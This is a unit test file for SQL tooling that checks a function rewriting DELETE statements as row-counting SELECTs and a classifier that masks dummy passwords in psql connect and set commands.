describe("deleteAsSelect: the rows a DELETE deletes, counted without deleting (issue 9)", () => {
  it("keeps FROM, USING, WHERE and WITH; drops RETURNING; keeps ONLY", () => {
    const build = deleteAsSelect(
      "WITH x AS (SELECT 1 AS id) DELETE FROM ONLY s.orders AS o USING items i, x WHERE o.id = i.order_id AND i.note <> 'using returning' RETURNING o.id",
    );
    assert.equal(
      build?.(["id", "Ref"]),
      `WITH x AS (SELECT 1 AS id) SELECT "o"."id", "o"."Ref" FROM ONLY s.orders AS o, items i, x WHERE o.id = i.order_id AND i.note <> 'using returning' `,
    );
    assert.equal(deleteAsSelect("DELETE FROM orders")?.(["id"]), `SELECT "orders"."id" FROM orders`);
    assert.equal(
      deleteAsSelect("delete from orders where status = 'x';")?.([]),
      `SELECT 1 FROM orders where status = 'x'`,
    );
  });
  it("gives up (null) where it cannot be sure", () => {
    assert.equal(deleteAsSelect("DELETE FROM orders WHERE CURRENT OF c"), null);
    assert.equal(deleteAsSelect("SELECT 1"), null);
    assert.equal(deleteAsSelect("not sql"), null);
  });
});

describe("classifySql: psql meta-commands keep secrets out of the plan (issue 9)", () => {
  it("a password in \\connect or in a \\set of a password variable is masked and registered", () => {
    const ops = classifySql(
      "\\c postgresql://app:s3cr3t-pw@db/other\n\\connect \"dbname=x password='hunter22'\"\n\\set admin_password 'pa55word!'\nSELECT 1;",
    );
    const text = ops.map((o) => `${o.statement} ${o.reason}`).join("\n");
    for (const secret of ["s3cr3t-pw", "hunter22", "pa55word!"]) {
      assert.ok(!text.includes(secret), `${secret} in ${text}`);
      assert.equal(secrets.redact(`x ${secret} y`).includes(secret), false, secret);
    }
  });
});
